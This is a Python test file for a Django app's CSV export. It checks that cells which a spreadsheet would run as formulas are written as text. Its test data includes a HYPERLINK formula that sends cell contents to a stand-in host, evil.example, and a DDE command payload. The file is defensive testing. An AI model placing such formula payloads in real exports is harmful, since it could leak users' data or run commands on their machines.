"""Spreadsheet formula injection: every CSV a person downloads is neutralised."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from handoff import rollups
from leadflow import csv_export
from tests.conftest import login
from tests.factories import CampaignFactory
from tests.handoff.test_dashboard import worked

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Acme = good", "Acme = good"),
        ("-12", "-12"),
        ("+5 %", "+5 %"),
        ("-3.5%", "-3.5%"),
        (-7, -7),
        (None, None),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(cell, written):
    assert csv_export.cell_safe(cell) == written


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_export.writer(out, delimiter=";")
    writer.writerows([["name", "@x"], [EVIL, 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        ["name", "'@x"],
        ["'" + EVIL, "3"],
    ]


@pytest.mark.django_db
def test_the_dashboard_export_neutralises_a_campaign_named_like_a_formula(cast):
    campaign = CampaignFactory.create(name=EVIL, cost=Decimal("100"))
    worked(cast, cast.team, campaign=campaign)
    rollups.rollups_refresh()
    response = login(cast.manager).get(
        reverse("handoff:dashboard_export", args=["campaigns"]), {"period": "30"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
